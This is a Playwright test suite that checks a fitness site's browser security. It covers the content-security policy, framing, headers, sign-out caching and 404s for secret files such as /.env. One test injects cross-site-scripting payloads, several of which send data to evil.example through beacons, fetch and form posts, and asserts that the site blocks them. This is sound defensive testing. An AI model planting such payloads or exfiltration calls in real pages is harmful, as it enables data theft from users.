import type { BrowserContext, Page } from "@playwright/test";
import { hearRefusals } from "./hear-refusals";
import { expect, signIn, test } from "./product";

test.use({ club: "edge", viewport: { width: 1280, height: 800 } });

const PICTURE = "https://pictures.example/mat.svg";
const SLUG = "where-pictures-live";

/** Hears what the policy refuses in any page of a context, and answers for everybody who is not the product. */
async function watch(context: BrowserContext, own: string) {
  const seen = await hearRefusals(context);
  const elsewhere: string[] = [];
  await context.route(
    (url) => url.origin !== own,
    (route) => {
      elsewhere.push(new URL(route.request().url()).hostname);
      const type = route.request().resourceType();
      if (type === "image") return route.fulfill({ contentType: "image/svg+xml", body: SVG });
      if (type === "script")
        return route.fulfill({ contentType: "text/javascript", body: "window.stripeIsHere = true" });
      return route.fulfill({ contentType: "text/html", body: "<p>elsewhere</p>" });
    },
  );
  return { seen, elsewhere };
}

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="16" height="9"><rect width="16" height="9"/></svg>';

declare global {
  interface Window {
    stripeIsHere?: boolean;
    ran?: boolean;
  }
}

const heading = (page: Page) => page.getByRole("heading", { level: 1 }).first();

test.beforeAll(async ({ browser, product }) => {
  const page = await browser.newPage({ baseURL: product.url });
  await signIn(page, "coach@longroll.test");
  const article = {
    slug: SLUG,
    title: "Where pictures live",
    content: `Elsewhere: ![a mat](${PICTURE})`,
    featuredImage: PICTURE,
    isPublished: true,
  };
  for (const [address, data] of [
    ["/api/admin/blog", article],
    ["/api/admin/workouts", { title: "On YouTube", videoUrl: "https://youtu.be/aqz-KE-bpKQ", thumbnailUrl: PICTURE }],
    ["/api/admin/workouts", { title: "On Vimeo", videoUrl: "https://vimeo.com/76979871", thumbnailUrl: PICTURE }],
  ] as const) {
    expect((await page.request.post(address, { data })).status()).toBe(201);
  }
  await page.close();
});

test("a member goes through the site by its links, and each page gets what it needs", async ({
  page,
  context,
  product,
}) => {
  test.setTimeout(120_000);
  const { seen, elsewhere } = await watch(context, product.url);
  // Pictures from elsewhere: in an article, and beside it on the front page.
  for (const path of ["/", `/blog/${SLUG}`]) {
    await page.goto(path);
    await expect(heading(page)).toBeVisible();
  }
  await expect.poll(() => elsewhere).toContain(new URL(PICTURE).hostname);
  await signIn(page, "trial@longroll.test");
  await page.goto("/community");
  await expect(heading(page)).toBeVisible();
  await page.getByRole("link", { name: "Dashboard" }).first().click();
  await expect(page.getByRole("heading", { level: 1, name: /Welcome back/ })).toBeVisible();
  const workouts = (await (await page.request.get("/api/workouts")).json()) as { id: number; title: string }[];

  await page.goto("/workouts");
  for (const [title, player] of [
    ["On YouTube", "www.youtube-nocookie.com"],
    ["On Vimeo", "player.vimeo.com"],
  ] as const) {
    await page.goto("/messages");
    await expect(heading(page)).toBeVisible();
    // A notice, say, that leads there.
    await follow(page, `/workout/${workouts.find((workout) => workout.title === title)?.id}`);
    await page.getByRole("button", { name: `Play video: ${title}` }).click();
    await expect(page.frameLocator("iframe").getByText("elsewhere")).toBeVisible();
    expect(elsewhere).toContain(player);
  }

  // From a page without any of Stripe's, by link and back.
  await follow(page, "/subscribe");
  await expect(page.getByRole("button", { name: /^Subscribe now/ })).toBeVisible();
  await bringStripe(page);
  expect(await page.evaluate(() => window.stripeIsHere)).toBe(true);
  await page.getByRole("button", { name: /^Subscribe now/ }).click();
  await expect(page.getByText("Test mode: no real card is charged")).toBeVisible();
  await page.goBack();
  await page.getByRole("button", { name: "Play video: On Vimeo" }).click();
  await expect(page.frameLocator("iframe").getByText("elsewhere")).toBeVisible();
  await page.getByRole("button", { name: "Account menu" }).click();
  await page.getByRole("navigation", { name: "Account" }).getByRole("link", { name: "Subscription" }).click();
  await expect(page).toHaveURL("/subscription");
  await expect(heading(page)).toBeVisible();
  await bringStripe(page);
  expect(await page.evaluate(() => window.stripeIsHere)).toBe(true);
  expect(seen).toEqual([]);
});

test("the microphone is the coach's at the desk for messages, and nobody's elsewhere", async ({ page }) => {
  await signIn(page, "coach@longroll.test");
  const allowed = () => page.evaluate(() => document.featurePolicy.allowsFeature("microphone"));
  await page.goto("/admin");
  await expect(heading(page)).toBeVisible();
  expect(await allowed()).toBe(false);
  await page.getByRole("link", { name: /unread conversation/ }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Messages" })).toBeVisible();
  expect(await allowed()).toBe(true);
});

declare global {
  interface Document {
    featurePolicy: { allowsFeature: (name: string) => boolean };
  }
}

test("what somebody has smuggled into a page neither runs, nor loads, nor sends", async ({
  page,
  context,
  product,
}) => {
  const { seen, elsewhere } = await watch(context, product.url);
  await signIn(page, "member@longroll.test");
  await page.goto("/community");
  await expect(heading(page)).toBeVisible();
  elsewhere.length = 0;
  await page.evaluate(() => {
    const put = (html: string) => document.body.append(document.createRange().createContextualFragment(html));
    put("<script>window.ran = true</script>");
    put('<img src="/nothing.png" onerror="window.ran = true">');
    put('<script src="https://evil.example/x.js"></script>');
    put('<script src="data:text/javascript,window.ran=true"></script>');
    put('<img src="https://evil.example/told?what=secret">');
    put('<iframe src="https://evil.example/"></iframe>');
    put('<iframe srcdoc="<script>parent.ran = true</script>"></iframe>');
    put('<object data="https://evil.example/x.swf"></object>');
    put('<link rel="stylesheet" href="https://evil.example/x.css">');
    put("<style>body { background: url(https://evil.example/x.png) }</style>");
    put('<base href="https://evil.example/">');
    put('<form id="out" action="https://evil.example/" method="post"></form>');
    put('<a id="run" href="javascript:window.ran = true">run</a>');
    document.querySelector<HTMLFormElement>("#out")?.submit();
    document.querySelector<HTMLAnchorElement>("#run")?.click();
    void fetch("https://evil.example/told").catch(() => {});
    navigator.sendBeacon("https://evil.example/told", "secret");
    // Behind a timer, because what a debugger itself evaluates may evaluate more.
    setTimeout(() => {
      try {
        // biome-ignore lint/security/noGlobalEval: the attack.
        window.eval("window.ran = true");
      } catch {
        // As it should.
      }
    });
  });
  await expect
    .poll(() => [...new Set(seen.map(({ blocked }) => blocked.split(" ")[0]))].sort())
    .toEqual([
      "base-uri",
      "connect-src",
      "form-action",
      "frame-src",
      "img-src",
      "object-src",
      "script-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-elem",
    ]);
  expect(await page.evaluate(() => window.ran)).toBeUndefined();
  expect(elsewhere).toEqual([]);
  expect(await page.evaluate(() => location.pathname)).toBe("/community");
});

test("no other page frames one of the site, nor does the site itself", async ({ page, context, product }) => {
  await watch(context, product.url);
  for (const path of ["/", "/sign-in", "/api/health", "/favicon.svg"]) {
    await page.goto("http://localhost:1/");
    const loaded = await page.evaluate(async (address) => {
      const frame = document.createElement("iframe");
      frame.src = address;
      const done = new Promise((resolve) => frame.addEventListener("load", resolve));
      document.body.append(frame);
      await done;
    }, product.url + path);
    expect(loaded).toBeUndefined();
    await expect.poll(() => [path, page.frames()[1]?.url()]).toEqual([path, "chrome-error://chromewebdata/"]);
  }
});

test("going back after signing out shows nothing that was the member's", async ({ page }) => {
  await signIn(page, "member@longroll.test");
  await page.goto("/settings");
  await expect(page.getByLabel("First name")).not.toHaveValue("");
  await follow(page, "/sign-out");
  await page.getByRole("button", { name: "Log out" }).click();
  await expect(page).toHaveURL("/");
  await expect(page.getByRole("heading", { level: 1, name: "Train for the long roll." })).toBeVisible();
  await page.goBack();
  await expect(page).toHaveURL(/\/sign-in\?returnTo=%2Fsettings/);
  await expect(page.getByLabel("Password", { exact: true })).toBeVisible();
  await expect(page.getByLabel("First name")).toHaveCount(0);
});

test("files of the site come with the same headers, and those that are none of it do not come", async ({ page }) => {
  const shell = await (await page.request.get("/")).text();
  const script = /src="(\/assets\/[^"]+\.js)"/.exec(shell)?.[1] ?? "";
  for (const path of [
    script,
    "/favicon.svg",
    "/site.webmanifest",
    "/samples/longroll-week.docx",
    "/sw.js",
    "/robots.txt",
  ]) {
    const answer = await page.request.get(path);
    const headers = answer.headers();
    expect([path, answer.status(), headers["x-content-type-options"]]).toEqual([path, 200, "nosniff"]);
    expect([path, headers["x-frame-options"]]).toEqual([path, "DENY"]);
    expect([path, headers["strict-transport-security"]]).toEqual([path, "max-age=31536000; includeSubDomains"]);
    expect([path, headers["referrer-policy"]]).toEqual([path, "strict-origin-when-cross-origin"]);
    expect([path, headers["permissions-policy"]]).toEqual([path, "camera=(), microphone=(), geolocation=()"]);
    expect([path, headers["content-security-policy"]?.includes("frame-ancestors 'none'")]).toEqual([path, true]);
    expect([path, headers["access-control-allow-origin"], headers["x-powered-by"]]).toEqual([
      path,
      undefined,
      undefined,
    ]);
  }
  for (const path of [
    `${script}.map`,
    "/assets/",
    "/assets/nothing.js",
    "/.git/HEAD",
    "/.git/config",
    "/.env",
    "/.dev.vars",
    "/wrangler.toml",
    "/wrangler.json",
    "/package.json",
    "/package-lock.json",
    "/_headers",
    "/index.html",
    "/.vite/manifest.json",
    "/migrations/0001_initial.sql",
    "/worker/index.ts",
    "/assets/..%2f_headers",
    "/samples/..%2findex.html",
    "/samples/",
  ]) {
    const answer = await page.request.get(path);
    expect([path, answer.status()]).toEqual([path, 404]);
    expect(await answer.text()).not.toMatch(/\[assets\]|"isEntry"|CREATE TABLE/);
    // A hashed file that is missing today may be there after the next deploy.
    if (path.startsWith("/assets/")) expect([path, answer.headers()["cache-control"]]).toEqual([path, "no-store"]);
  }
});

/** As a link that stands in the page. */
async function follow(page: Page, path: string): Promise<void> {
  await page.evaluate((address) => {
    history.pushState(null, "", address);
    dispatchEvent(new PopStateEvent("popstate", { state: null }));
  }, path);
  await expect(page).toHaveURL(path);
  await expect(heading(page)).toBeVisible();
}

/** As the library's own loader does. */
async function bringStripe(page: Page): Promise<void> {
  await page.evaluate(async () => {
    const script = document.createElement("script");
    script.src = "https://js.stripe.com/dahlia/stripe.js";
    const came = new Promise((resolve, reject) => {
      script.onload = resolve;
      script.onerror = reject;
    });
    document.head.append(script);
    await came;
  });
}
